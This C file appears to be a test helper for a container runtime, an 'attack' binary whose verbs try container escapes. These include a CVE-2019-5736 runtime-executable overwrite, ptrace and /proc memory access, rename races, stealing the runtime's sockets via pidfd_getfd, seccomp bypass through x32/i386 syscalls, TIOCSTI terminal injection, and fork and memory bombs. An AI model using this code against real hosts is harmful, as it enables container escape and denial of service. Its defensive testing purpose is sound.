/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile container, or a hostile neighbour on the host, does to a runtime. One static program, built by the tests
 * (runtime_bundle.attacker) and put into the root filesystem: attack VERB [ARGUMENT...]. Each verb prints what it got.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void answer(const char *what, long r)
{
	printf("%s: %s\n", what, r < 0 ? strerrorname_np(errno) : "done");
	fflush(stdout);
}

/* Exchanges two names as fast as it can, until it is killed: whatever is checked by name has changed when it is used. */
static int swap(char **argv)
{
	for (;;)
		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0 && errno != ENOENT)
			return 1;
}

/* Calls fn for every process but this one, over and over, for so many seconds or until it says 1. */
static int each_process(double seconds, int (*fn)(int pid, void *arg), void *arg)
{
	double end = now() + seconds;

	while (now() < end) {
		DIR *d = opendir("/proc");

		for (struct dirent *de; d && (de = readdir(d));) {
			int pid = atoi(de->d_name);

			if (pid > 0 && pid != getpid() && fn(pid, arg) == 1) {
				closedir(d);
				return 1;
			}
		}
		if (d)
			closedir(d);
	}
	return 0;
}

/* True if the process runs a program that is not of this root filesystem. */
static int is_foreign(int pid)
{
	char path[64], name[512];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, name, sizeof(name) - 1);
	if (n < 0)
		return 0;
	name[n] = '\0';
	return strncmp(name, "/bin/", 5) != 0;
}

/* CVE-2019-5736: keeps the executable open for reading until nothing runs it, and then opens it again for writing. */
static int overwrite(int pid, void *text)
{
	char path[64];
	double end = now() + 2;
	int fd, w = -1;

	if (!is_foreign(pid))
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	printf("caught\n");
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while (w < 0 && now() < end) {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w < 0 && errno != ETXTBSY)
			break;
	}
	answer("open for writing", w);
	if (w >= 0 && write(w, text, strlen(text)) > 0)
		printf("OVERWRITTEN\n");
	fflush(stdout);
	if (w >= 0)
		close(w);
	close(fd);
	return w >= 0;
}

static int exe(char **argv)
{
	printf("looking\n");
	fflush(stdout);
	return each_process(atof(argv[1]), overwrite, argv[0]);
}

/* 1 if the process runs what is not of this root filesystem, 0 if it is an ordinary one by now, -1 if it cannot be seen. */
static int is_runtime(int pid)
{
	char path[64], name[8];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return readlink(path, name, sizeof(name)) < 0 ? (errno == EACCES || errno == EPERM ? -1 : 0)
						      : is_foreign(pid);
}

/* Takes hold of a process, and lets an ordinary one go: whoever is traced is nobody else's to wait for. */
static void trace(int pid, char *known)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		if (!known[pid])
			answer("trace", -1);
		known[pid] = 1;
		return;
	}
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
		waitpid(pid, NULL, __WALL);
	if (is_runtime(pid))
		printf("TRACED %d\n", pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* Looks into every new process: its descriptors, its memory. */
static int pry(int pid, void *known)
{
	char path[64], name[512];
	ssize_t n;
	int fd, seen = is_runtime(pid);

	if (pid >= 65536 || seen == 0)
		return 0;
	if (seen == 1)
		printf("EXE of %d\n", pid);
	snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
	n = readlink(path, name, sizeof(name) - 1);
	if (n >= 0 && is_runtime(pid))
		printf("FD 3 %.*s\n", (int)n, name);
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && is_runtime(pid))
		printf("MEMORY of %d\n", pid);
	if (fd >= 0)
		close(fd);
	trace(pid, known);
	fflush(stdout);
	return 0;
}

static int spy(char **argv)
{
	static char seen[65536];

	printf("looking\n");
	fflush(stdout);
	return each_process(atof(argv[0]), pry, seen);
}

/* Stops every process that is not yet, or does not let itself be seen as, one of this root filesystem's; whoever has become one
 * meanwhile goes on. A signal that comes in the middle of an execve(2) stops the program that is executed, which nobody would ever let
 * go. */
static int stop(int pid, void *stopped)
{
	char path[64], name[8], *known = stopped;

	if (pid >= 65536)
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (readlink(path, name, sizeof(name)) < 0 ? errno == EACCES : is_foreign(pid)) {
		known[pid] = 1;
		(void)kill(pid, SIGSTOP);
	} else if (known[pid]) {
		known[pid] = 0;
		(void)kill(pid, SIGCONT);
	}
	return 0;
}

static int stopper(char **argv)
{
	static char stopped[65536];

	printf("looking\n");
	fflush(stdout);
	return each_process(atof(argv[0]), stop, stopped);
}

/* Takes hold of processes and never lets go of them: of those that have not executed their command yet ("new"), or of others ("run"). */
static int hold_one(int pid, void *which)
{
	int new = *(char *)which == 'n', runtime;

	if (pid == 1 || pid == getppid())
		return 0;
	runtime = is_runtime(pid);
	if ((runtime != 0) != new || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return 0;
	if (new && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, NULL, __WALL) == pid && !is_runtime(pid)) {
		/* It became its command between the look and the hold: held on, that command would run for ever. */
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 0;
	}
	printf("holds\n");
	fflush(stdout);
	return 0;
}

static int holder(char **argv)
{
	printf("looking\n");
	fflush(stdout);
	return each_process(atof(argv[1]), hold_one, argv[0]);
}

/* Speaks to the runtime in the name of a process that it puts into the container: "my pid is", and then nonsense. */
static int speak_for(int pid, void *victim)
{
	char message[1 + sizeof(int)] = "P", junk = '?';
	int pidfd, sock, number = atoi(victim);

	if (!is_foreign(pid))
		return 0;
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 3; fd < 8; fd++) {
		sock = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (sock < 0)
			continue;
		memcpy(message + 1, &number, sizeof(number));
		if (send(sock, message, sizeof(message), MSG_NOSIGNAL) != sizeof(message))
			continue;
		(void)send(sock, &junk, 1, MSG_NOSIGNAL);
		printf("spoke\n");
		fflush(stdout);
		return 1;
	}
	return 0;
}

static int speaker(char **argv)
{
	printf("looking\n");
	fflush(stdout);
	return !each_process(atof(argv[1]), speak_for, argv[0]);
}

static int ids(char **argv)
{
	(void)argv;
	printf("%d %d\n", (int)geteuid(), (int)getegid());
	return 0;
}

/* mkdir by the ways into the kernel that a filter for x86_64 might not look at. */
static int calls(char **argv)
{
	const char *dir = argv[0];
	long r;

	errno = 0;
	answer("native", syscall(SYS_mkdirat, AT_FDCWD, dir, 0700));
	if (fork() == 0) {
		answer("x32", syscall(0x40000000 | SYS_mkdirat, AT_FDCWD, dir, 0700));
		_exit(0);
	}
	wait(NULL);
	if (fork() == 0) {
		/* 39 is mkdir there; the path must be below 4 GiB. */
		char *low = (char *)syscall(SYS_mmap, 0x10000000, 4096, 3, 0x32, -1, 0);

		strcpy(low, dir);
		__asm__ volatile("int $0x80" : "=a"(r) : "a"(39), "b"(low), "c"(0700) : "memory");
		errno = r < 0 ? (int)-r : 0;
		answer("i386", r < 0 ? -1 : 0);
		_exit(0);
	}
	wait(NULL);
	return 0;
}

/* Types into the terminal that is our stdin, as if the user did. */
static int type(char **argv)
{
	int r = 0;

	for (const char *p = argv[0]; *p && r == 0; p++)
		r = ioctl(0, TIOCSTI, p);
	answer("TIOCSTI", r);
	answer("open /dev/tty", open("/dev/tty", O_RDWR));
	return 0;
}

/* Looks for a key in the session's keyring, and says which keyring that is. */
static int keys(char **argv)
{
	long ring = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);

	printf("session %ld\n", ring);
	answer("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0));
	return 0;
}

/* Makes a session of its own, with a key in it, and executes something. */
static int with_key(char **argv)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", argv[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
		return 1;
	execv(argv[1], argv + 1);
	return 1;
}

static int fork_bomb(char **argv)
{
	int n = 0, tries = atoi(argv[0]);

	for (int i = 0; i < tries; i++) {
		pid_t pid = fork();

		if (pid == 0)
			for (;;)
				pause();
		n += pid > 0;
	}
	printf("%d\n", n);
	fflush(stdout);
	for (;;)
		pause();
	return 0;
}

static int memory_bomb(char **argv)
{
	size_t n = (size_t)atol(argv[0]) << 20;
	char *p = malloc(n);

	for (size_t i = 0; p && i < n; i += 4096)
		p[i] = 1;
	printf("had %zu\n", p ? n : 0);
	return 0;
}

/* A process with this very pid, which waits to be killed. */
static int as_pid(char **argv)
{
	pid_t want = atoi(argv[0]);
	struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&want, .set_tid_size = 1};
	long pid = syscall(SYS_clone3, &args, sizeof(args));

	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			pause();
	}
	answer("clone", pid);
	if (pid < 0)
		return 1;
	int status, r = waitpid((pid_t)pid, &status, 0);
	printf("%s\n", r == pid && WIFSIGNALED(status) ? "killed" : "ended");
	return 0;
}

/* Directories in one another, as deep as asked. */
static int nest(char **argv)
{
	if (chdir(argv[0]) < 0)
		return 1;
	for (int i = atoi(argv[1]); i > 0; i--)
		if ((mkdir("d", 0755) < 0 && errno != EEXIST) || chdir("d") < 0) {
			answer("nest", -1);
			return 1;
		}
	return 0;
}

/* Which of the descriptors up to 64 are open, and whether a host's directory can be reached from one. */
static int descriptors(char **argv)
{
	char up[256];

	for (int fd = 0; fd < 64; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(up, sizeof(up), "../../../../../../../../../../../..%s", argv[0]);
		printf("%d%s\n", fd, faccessat(fd, up, F_OK, 0) == 0 ? " HOST" : "");
	}
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *verb;
		int arguments;
		int (*run)(char **argv);
	} verbs[] = {
	    {"swap", 2, swap},
	    {"exe", 2, exe},
	    {"spy", 1, spy},
	    {"stop", 1, stopper},
	    {"hold", 2, holder},
	    {"speak", 2, speaker},
	    {"ids", 0, ids},
	    {"calls", 1, calls},
	    {"type", 1, type},
	    {"keys", 1, keys},
	    {"with-key", 2, with_key},
	    {"fork-bomb", 1, fork_bomb},
	    {"memory-bomb", 1, memory_bomb},
	    {"as-pid", 1, as_pid},
	    {"nest", 2, nest},
	    {"descriptors", 1, descriptors},
	};

	for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (strcmp(verbs[i].verb, argv[1]) == 0 && argc >= 2 + verbs[i].arguments)
			return verbs[i].run(argv + 2);
	fprintf(stderr, "attack: unknown verb or too few arguments\n");
	return 2;
}
